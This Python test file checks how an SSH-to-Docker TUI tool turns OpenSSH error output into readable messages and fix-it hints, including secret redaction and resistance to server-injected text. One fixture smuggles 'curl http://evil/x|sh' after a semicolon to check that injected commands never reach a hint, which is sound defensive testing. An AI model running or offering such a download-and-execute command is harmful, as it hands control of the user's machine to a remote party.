"""What ssh says (OpenSSH 9.2, as it was recorded), and what people are told of it."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tui.engine.errors import EndpointUnusable, PermissionRefused, SocketMissing, SshFailed
from tui.engine.ssh.failures import LINES, Reached, by_hand, harmless, is_crowded, not_connected, not_there
from tui.model.ssh_address import SshAddress

WEB = Reached(SshAddress("web-1", "deploy", 2222), (), "DOCKER_HOST")
ONCE = "run ssh -p 2222 deploy@web-1 once in a terminal: it asks for what is missing"

CHANGED = """\
@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@
@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @
@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@
IT IS POSSIBLE THAT SOMEONE IS DOING SOMETHING NASTY!
Offending ED25519 key in /home/alice/.ssh/known_hosts:1
  remove with:
  ssh-keygen -f "/home/alice/.ssh/known_hosts" -R "[web-1]:2222"
Host key for [web-1]:2222 has changed and you have requested strict checking.
Host key verification failed."""

REFUSED = """\
ssh: connect to host bastion port 22: Connection refused
kex_exchange_identification: Connection closed by remote host
Connection closed by UNKNOWN port 65535"""


@pytest.mark.parametrize(
    ("said", "message", "hint"),
    [
        ("Host key verification failed.", "the key of web-1 is not known here", ONCE),
        (CHANGED, "the key of web-1 is another one than is known here", 'ssh-keygen -R "[web-1]:2222"'),
        (
            "deploy@web-1: Permission denied (publickey).",
            "web-1 does not let this account in (publickey)",
            "run ssh -o AddKeysToAgent=yes -p 2222 deploy@web-1 once in a terminal",
        ),
        (
            "deploy@web-1: Permission denied (password,keyboard-interactive).",
            "web-1 does not let this account in (password,keyboard-interactive)",
            "a password is not kept",
        ),
        (
            "Received disconnect from 10.0.0.1 port 22:2: Too many authentication failures",
            "web-1 was offered too many keys",
            "IdentitiesOnly",
        ),
        (
            "ssh: Could not resolve hostname web-1: Name or service not known",
            'ssh finds no host called "web-1"',
            "alias",
        ),
        (REFUSED, "nothing listens for ssh at bastion port 22", "sshd"),
        (
            "ssh: connect to host web-1 port 2222: No route to host",
            "web-1 is not reached by ssh",
            "network",
        ),
        ("Connection timed out during banner exchange", "web-1 is not reached by ssh", "network"),
        ("Timeout, server web-1 not responding.", "the connection by ssh to web-1 broke", ""),
        (
            "kex_exchange_identification: read: Connection reset by peer",
            "web-1 closed the connection by ssh",
            "MaxStartups",
        ),
        (
            "kex_exchange_identification: banner line contains invalid characters",
            "what answers at web-1 port 2222 does not speak ssh",
            "ssh://web-1:22",
        ),
        (
            "deploy@web-1: Permission denied (publickey).",
            "web-1 does not let this account in (publickey)",
            "ssh-copy-id -p 2222 deploy@web-1",
        ),
        ("something quite new", "ssh to web-1 ended: something quite new", ONCE),
        ("", "ssh to web-1 ended: it said nothing", ONCE),
    ],
)
def test_each_has_a_sentence_and_a_remedy(said: str, message: str, hint: str) -> None:
    error = not_connected(said.splitlines(), WEB)
    assert (type(error), error.exit_status) == (SshFailed, 3)
    assert error.message == message
    assert hint in error.hint


@pytest.mark.parametrize(
    ("said", "asks", "passing"),
    [
        ("Host key verification failed.", True, False),
        (CHANGED, False, False),
        ("deploy@web-1: Permission denied (publickey).", True, False),
        (REFUSED, False, True),
        ("Timeout, server web-1 not responding.", False, True),
    ],
)
def test_where_a_terminal_helps_and_where_time_does(said: str, asks: bool, passing: bool) -> None:
    error = not_connected(said.splitlines(), WEB)
    assert isinstance(error, SshFailed)
    assert bool(error.login) == asks
    assert error.passing == passing


def test_without_an_agent_a_passphrase_is_not_kept() -> None:
    said = ["deploy@web-1: Permission denied (publickey)."]
    assert "ssh-agent" in not_connected(said, WEB._replace(agent=False)).hint
    assert "ssh-agent" not in not_connected(said, WEB).hint


@pytest.mark.parametrize(
    "said",
    [
        "command-line: line 0: Bad configuration option: foo",
        "Bad owner or permissions on /home/alice/.ssh/config",
        "/home/alice/.ssh/config: terminating, 1 bad configuration options",
    ],
)
def test_a_configuration_that_is_wrong_is_usage(said: str) -> None:
    error = not_connected([said], WEB)
    assert (type(error), error.exit_status) == (EndpointUnusable, 2)
    assert said in error.message


@pytest.mark.parametrize(
    ("said", "kind", "words"),
    [
        (
            "Got permission denied while trying to connect to the Docker daemon socket at unix:///x: Get "
            '"http://x": dial unix /var/run/docker.sock: connect: permission denied',
            PermissionRefused,
            "deploy may not use /var/run/docker.sock on web-1 (DOCKER_HOST)",
        ),
        ("channel 1: open failed: connect failed: open failed", SocketMissing, "no engine answers at"),
        ("bash: line 1: docker: command not found", SocketMissing, "no engine answers at"),
        (
            "mux_client_request_session: session request failed: Session open refused by peer",
            SshFailed,
            "MaxS",
        ),
    ],
)
def test_a_host_without_an_engine_for_us(said: str, kind: type[Exception], words: str) -> None:
    error = not_there(WEB, [said])
    assert type(error) is kind
    assert words in error.message
    assert error.exit_status == 3


def test_a_wrong_path_of_a_socket_is_said_without_the_words_of_ssh() -> None:
    error = not_there(WEB, ["channel 2: open failed: connect failed: open failed"])
    assert error.detail == ()
    assert "/path/of/docker.sock" in error.hint
    refused = not_there(
        WEB, ["channel 2: open failed: connect failed: open failed", "connect: permission denied"]
    )
    assert "usermod -aG docker deploy" in refused.hint
    assert refused.detail == ()


@given(st.lists(st.text()))
def test_what_ssh_says_is_harmless(said: list[str]) -> None:
    lines = harmless(said)
    assert len(lines) <= LINES
    assert all(line.isprintable() for line in lines)
    not_connected(said, WEB)
    not_there(WEB, said)


def test_secrets_are_not_shown() -> None:
    assert "hunter2" not in harmless(["ssh: https://alice:hunter2@proxy refused"])[0]


def test_the_sentence_has_the_options_without_which_it_would_not_arrive() -> None:
    far = Reached(SshAddress("web-1"), ("ProxyCommand=nc %h %p",), "--host")
    assert by_hand(far).startswith("run ssh -o 'ProxyCommand=nc %h %p' web-1 once")


def test_a_host_does_not_say_what_is_to_be_typed() -> None:
    said = ["ssh-keygen -f x -R 'web-1'; curl http://evil/x|sh", *CHANGED.splitlines()]
    assert "curl" not in not_connected(said, WEB).hint
    known = WEB._replace(options=("UserKnownHostsFile=/etc/hosts-of-ours",))
    assert 'ssh-keygen -f "/etc/hosts-of-ours" -R "[web-1]:2222"' in not_connected(said, known).hint


@pytest.mark.parametrize(
    "words",
    [
        "kex_exchange_identification ... Host key verification failed.",
        "bye\nHost key verification failed.",
        "bye\n@ WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED! @",
        "Bad configuration option: foo",
        "Too many authentication failures\nHost key verification failed.",
    ],
)
def test_whoever_answers_does_not_choose_what_is_said_of_it(words: str) -> None:
    said = f"Received disconnect from 10.0.0.1 port 22:11: {words}\nDisconnected from 10.0.0.1 port 22"
    error = not_connected(said.splitlines(), WEB)
    assert isinstance(error, SshFailed)
    assert error.message == "web-1 ended the connection by ssh"
    assert (error.login, error.passing) == ((), False)
    assert not is_crowded(said.splitlines())


def test_what_it_offers_is_its_word_too() -> None:
    said = (
        "Unable to negotiate with 10.0.0.1 port 22: no matching key exchange method found. "
        "Their offer: Permission denied (x)\nHost key verification failed."
    )
    assert not_connected(said.splitlines(), WEB).message.startswith("ssh to web-1 ended: Unable to negotiate")


def test_a_crowd_is_what_ssh_says_itself() -> None:
    assert is_crowded(["kex_exchange_identification: read: Connection reset by peer"])


def test_a_key_that_is_missing_is_the_headline() -> None:
    said = [
        "no such identity: /home/alice/.ssh/edge: No such file or directory",
        "deploy@web-1: Permission denied (publickey).",
    ]
    error = not_connected(said, WEB._replace(options=("IdentityFile=/home/alice/.ssh/edge",)))
    assert (
        error.message == "there is no key /home/alice/.ssh/edge on this machine, and web-1 lets no other in"
    )
    assert "ssh_options" in error.hint
    assert "passphrase" not in error.hint
    assert "~/.ssh/config" in not_connected(said, WEB).hint
    lost = not_connected([said[0], "Timeout, server web-1 not responding."], WEB)
    assert lost.message == "the connection by ssh to web-1 broke"


def test_the_key_is_given_by_the_way_that_is_configured() -> None:
    options = ("ProxyJump=bastion", "IdentityFile=~/.ssh/edge", "port 2200")
    hint = not_connected(
        ["Permission denied (publickey)."], Reached(SshAddress("web-1"), options, "--host")
    ).hint
    assert "ssh-copy-id -i ~/.ssh/edge -o ProxyJump=bastion -o 'port 2200' web-1" in hint
